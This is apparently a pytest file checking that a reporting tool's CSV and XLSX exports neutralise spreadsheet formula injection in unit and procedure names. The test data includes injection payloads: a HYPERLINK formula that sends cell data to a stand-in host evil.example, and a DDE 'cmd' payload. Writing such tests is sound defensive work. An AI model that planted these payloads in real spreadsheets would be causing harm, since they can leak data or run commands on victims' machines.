"""Formula injection (issue 19, item 1): outside text never becomes a live spreadsheet formula.

Unit codes and names (``sohoa units set``, ``/admin/units``, an imported register) and the
register's procedure and field names are outside data. A spreadsheet runs a cell that starts
with ``= + - @``, a tab or a carriage return (OWASP "CSV Injection"), so each report export
must write such text as text:

- CSV (``sohoa report -f csv``, the nightly files): the field starts with ``'``;
- XLSX (``sohoa report -o ….xlsx``, ``/reports/export.xlsx``, ``/api/reports?format=xlsx``):
  a string cell (never openpyxl's ``f``), with the ``quotePrefix`` style so that Excel keeps
  it as text even after someone edits the cell; the text itself is kept as it was.

The workbook is checked twice: read back with openpyxl, and independently in the sheet XML
itself (no ``<f>`` element anywhere). The store doors tidy whitespace (``units set`` folds it,
the register import strips cells), so ``"\\t=1+1"`` arrives there as ``"=1+1"``; the exact
tab and CR payloads are fed to the renderer directly.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path
from xml.etree import ElementTree

import pytest
from openpyxl import Workbook, load_workbook
from webclient import TestClient, csrf_of

from catalog.audit import Actor
from catalog.database import forget_catalog, open_catalog
from catalog.register import import_register
from catalog.register import units as register_units
from reports.rates import build_report
from reports.render import render
from schemas.register import RegisterEntry, Unit
from schemas.report import Period
from schemas.settings import Settings
from services import users as user_service
from web.app import create_app

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
"""One unit name per dangerous first character."""

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
RISKY_CODE = "-A1"
"""A unit code the code rule allows (letters, digits, ``. _ -``) that Excel reads as ``=-A1``."""

PERIOD = Period(start=date(2024, 3, 1), end=date(2024, 3, 31))
DAYS = ("--from", "01/03/2024", "--to", "31/03/2024")
PASSWORD = "mat-khau-du-dai-1"


# --- what an inert export looks like ---------------------------------------------------------


def csv_fields(data: bytes) -> list[str]:
    """Every field of a CSV report, as a spreadsheet's CSV import would split them."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [field for row in rows for field in row]


def assert_csv_inert(data: bytes, texts: list[str]) -> None:
    """Each of ``texts`` is there behind a ``'``, and no field can start a formula."""
    fields = csv_fields(data)
    for text in texts:
        assert "'" + text in fields, (text, fields)
    assert not [f for f in fields if f.startswith(DANGEROUS)], fields


MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def xml_cells(data: bytes) -> list[tuple[str, str | None, str, bool]]:
    """``(formula, type, text, quotePrefix)`` of every cell, read from the file's XML itself.

    No spreadsheet library in between: the sheets' ``<c>`` elements and the ``cellXfs``
    style each one points at, as Excel reads them.
    """
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = [n for n in archive.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
        sheets = [ElementTree.fromstring(archive.read(name)) for name in names]
        styles = ElementTree.fromstring(archive.read("xl/styles.xml"))
    xfs = styles.find(f"{MAIN}cellXfs")
    quoted = [xf.get("quotePrefix") in ("1", "true") for xf in xfs]
    found = []
    for sheet in sheets:
        for cell in sheet.iter(f"{MAIN}c"):
            formula = cell.find(f"{MAIN}f")
            text = "".join(t.text or "" for t in cell.iter(f"{MAIN}t"))
            style = quoted[int(cell.get("s", "0"))]
            found.append(
                ("" if formula is None else formula.text or "", cell.get("t"), text, style)
            )
    return found


def assert_xlsx_inert(data: bytes, texts: list[str]) -> None:
    """No formula cell anywhere; each of ``texts`` is a quote-prefixed string cell, unchanged."""
    stored = xml_cells(data)
    assert stored and not [cell for cell in stored if cell[0]], "a formula in the sheet XML"
    for text in texts:
        same = [cell for cell in stored if cell[2] == text]
        assert same and all(t == "inlineStr" and q for _, t, _, q in same), (text, same)
    cells = [c for sheet in load_workbook(io.BytesIO(data)).worksheets for r in sheet for c in r]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for text in texts:
        found = [c for c in cells if c.value == text]
        assert found, (text, [c.value for c in cells if isinstance(c.value, str)])
        assert all(c.data_type == "s" and c.quotePrefix for c in found), text


def numbers_stay_numbers(data: bytes) -> None:
    """The counts and rates are still numbers: only text is neutralised."""
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    header = [c.value for c in sheet[4]]
    received = header.index("Hồ sơ tiếp nhận") + 1
    counts = [sheet.cell(row=r, column=received) for r in range(5, sheet.max_row + 1)]
    assert [c for c in counts if isinstance(c.value, int) and c.data_type == "n"]


# --- the renderer, fed the exact payloads ----------------------------------------------------


def _entry(code: str, unit: str, field_name: str) -> RegisterEntry:
    return RegisterEntry(
        dossier_code=code,
        unit=unit,
        procedure_code=f"P.{code}",
        procedure_name=field_name,
        field_code=f"F.{code}",
        field_name=field_name,
        received_on=date(2024, 3, 4),
        status=4,
        channel=1,
    )


def payload_report(by: str):
    """A report whose unit, procedure and field names are the payloads, one unit per payload
    (the last with the risky code)."""
    codes = [f"U{i}" for i in range(len(PAYLOADS) - 1)] + [RISKY_CODE]
    units = [Unit(code=c, name=p, level="xa") for c, p in zip(codes, PAYLOADS, strict=True)]
    entries = [_entry(f"D{i}", c, p) for i, (c, p) in enumerate(zip(codes, PAYLOADS, strict=True))]
    return build_report(entries, units, {}, period=PERIOD, by=by)


@pytest.mark.parametrize("by", ["unit", "linh-vuc", "tthc"])
def test_the_renderer_writes_every_dangerous_text_as_text(by):
    report = payload_report(by)
    texts = [*PAYLOADS, RISKY_CODE] if by == "unit" else PAYLOADS
    for lang in ("vi", "en"):
        assert_csv_inert(render(report, "csv", lang), texts)
        assert_xlsx_inert(render(report, "xlsx", lang), texts)
    numbers_stay_numbers(render(report, "xlsx", "vi"))


def test_harmless_text_and_numbers_are_left_alone():
    report = payload_report("unit")
    fields = csv_fields(render(report, "csv", "vi"))
    assert "U0" in fields and "Xã" in fields and "1" in fields  # code, level, a count: as they were
    assert "'-2+3" in fields and "'-A1" in fields and "-2+3" not in fields


def test_control_characters_neither_run_nor_stop_the_workbook():
    """NUL first (ASVS 1.2.10 lists it) is quoted in CSV; a bell inside a name, which XLSX
    cannot hold, becomes U+FFFD instead of making openpyxl refuse the whole export."""
    units = [Unit(code="U1", name="\x00=1+1"), Unit(code="U2", name="Xã\x07 Hải An")]
    entries = [_entry("D1", "U1", "Hộ tịch"), _entry("D2", "U2", "Hộ tịch")]
    report = build_report(entries, units, {}, period=PERIOD)
    assert "'\x00=1+1" in csv_fields(render(report, "csv", "vi"))
    assert_xlsx_inert(render(report, "xlsx", "vi"), ["\ufffd=1+1"])
    stored = [text for _, _, text, _ in xml_cells(render(report, "xlsx", "vi"))]
    assert "Xã\ufffd Hải An" in stored


# --- through the doors outside data comes in: the CLI, the register import, the web ----------


def _cli(*args: str):
    from typer.testing import CliRunner

    from cli.app import app

    return CliRunner().invoke(app, [str(a) for a in args])


@pytest.fixture
def catalog_env(tmp_path, monkeypatch, catalog_url) -> Settings:
    """``sohoa`` in this process on a fresh catalog (SQLite and PostgreSQL)."""
    monkeypatch.setenv("SOHOA_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("SOHOA_LANG", "vi")
    monkeypatch.setenv("SOHOA_CATALOG_URL", catalog_url)
    settings = Settings()
    yield settings
    forget_catalog(settings.resolved_catalog_url)


def cli_exports(tmp_path: Path, *extra: str) -> tuple[bytes, bytes]:
    """``sohoa report`` as CSV on stdout and as an XLSX file."""
    as_csv = _cli("report", *DAYS, *extra, "-f", "csv")
    assert as_csv.exit_code == 0, as_csv.output
    target = tmp_path / "bao-cao.xlsx"
    as_xlsx = _cli("report", *DAYS, *extra, "-o", target)
    assert as_xlsx.exit_code == 0, as_xlsx.output
    return as_csv.stdout_bytes, target.read_bytes()


def stored_names(settings: Settings) -> list[str]:
    """The units' codes and names that start like a formula, as the catalog holds them
    (after the door's tidying)."""
    found = register_units(open_catalog(settings.resolved_catalog_url))
    return [text for unit in found for text in (unit.code, unit.name) if text.startswith(DANGEROUS)]


def test_units_set_from_the_cli_cannot_plant_a_formula(catalog_env, tmp_path):
    for index, payload in enumerate(PAYLOADS):
        done = _cli("units", "set", f"U{index}", "--name", payload)
        assert done.exit_code == 0, done.output
    done = _cli("units", "set", "--name", "- Phòng Tư pháp", "--", RISKY_CODE)
    assert done.exit_code == 0, done.output
    texts = stored_names(catalog_env)
    assert '=HYPERLINK("http://evil.example/?x="&A1,"x")' in texts and RISKY_CODE in texts
    assert "- Phòng Tư pháp" in texts  # a real name that happens to start with a dash
    as_csv, as_xlsx = cli_exports(tmp_path)
    assert_csv_inert(as_csv, texts)
    assert_xlsx_inert(as_xlsx, texts)


REGISTER_HEADER = [
    "Mã hồ sơ", "Mã TTHC", "Tên TTHC", "Mã lĩnh vực", "Tên lĩnh vực", "Mã đơn vị", "Tên đơn vị",
    "Cấp", "Đơn vị cấp trên", "Ngày tiếp nhận", "Ngày hẹn trả", "Ngày kết thúc xử lý",
    "Trạng thái", "Kênh", "Kết quả giấy",
]  # fmt: skip


def register_rows() -> list[list[str]]:
    """One dossier per payload, which is its unit's code and name, its procedure and field name."""
    rows = [REGISTER_HEADER]
    for index, payload in enumerate(PAYLOADS):
        rows.append([f"D{index}", f"P{index}", payload, f"F{index}", payload, payload, payload,
                     "xa", "", "04/03/2024", "", "", "4", "1", "có"])  # fmt: skip
    return rows


def write_register(path: Path) -> Path:
    """The register as the one-stop-shop exports it: CSV, or XLSX whose cells are text."""
    if path.suffix == ".csv":
        with path.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows(register_rows())
        return path
    book = Workbook()
    for row in register_rows():
        book.active.append(row)
    for line in book.active.iter_rows():
        for cell in line:
            cell.data_type = "s"  # text in the source file, not a formula of its own
    book.save(path)
    return path


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_imported_register_cannot_plant_a_formula(catalog_env, tmp_path, suffix):
    source = write_register(tmp_path / f"so-theo-doi{suffix}")
    done = _cli("register", "import", source)
    assert done.exit_code == 0, done.output
    texts = stored_names(catalog_env)
    assert '=HYPERLINK("http://evil.example/?x="&A1,"x")' in texts and "@SUM(A1)" in texts
    for grouping in ("unit", "linh-vuc", "tthc"):
        as_csv, as_xlsx = cli_exports(tmp_path, "--by", grouping)
        names = texts if grouping == "unit" else sorted({p.strip() for p in PAYLOADS})
        assert_csv_inert(as_csv, names)
        assert_xlsx_inert(as_xlsx, names)


def signed_in_auditor(settings: Settings) -> TestClient:
    user_service.add_user(
        settings, "binh.audit", PASSWORD, role="auditor", actor=Actor("root", via="cli")
    )
    browser = TestClient(create_app(settings), follow_redirects=False)
    token = csrf_of(browser.get("/login").text)
    form = {"name": "binh.audit", "password": PASSWORD, "csrf_token": token}
    assert browser.post("/login", data=form).status_code == 303
    return browser


@pytest.fixture
def web_settings(tmp_path, catalog_url) -> Settings:
    """The register above imported into a fresh catalog (SQLite and PostgreSQL)."""
    settings = Settings(data_dir=tmp_path / "data", catalog_url=catalog_url)
    catalog = open_catalog(settings.resolved_catalog_url)
    assert import_register(catalog, write_register(tmp_path / "so.csv")).bad == 0
    yield settings
    forget_catalog(settings.resolved_catalog_url)


def test_the_web_exports_cannot_carry_a_formula(web_settings):
    texts = stored_names(web_settings)
    browser = signed_in_auditor(web_settings)
    days = {"from": "2024-03-01", "to": "2024-03-31"}
    page = browser.get("/reports/export.xlsx", params=days)
    assert page.status_code == 200, page.text
    assert_xlsx_inert(page.content, texts)
    api = browser.get("/api/reports", params={**days, "format": "xlsx", "by": "tthc"})
    assert api.status_code == 200, api.text
    assert_xlsx_inert(api.content, ['=HYPERLINK("http://evil.example/?x="&A1,"x")'])
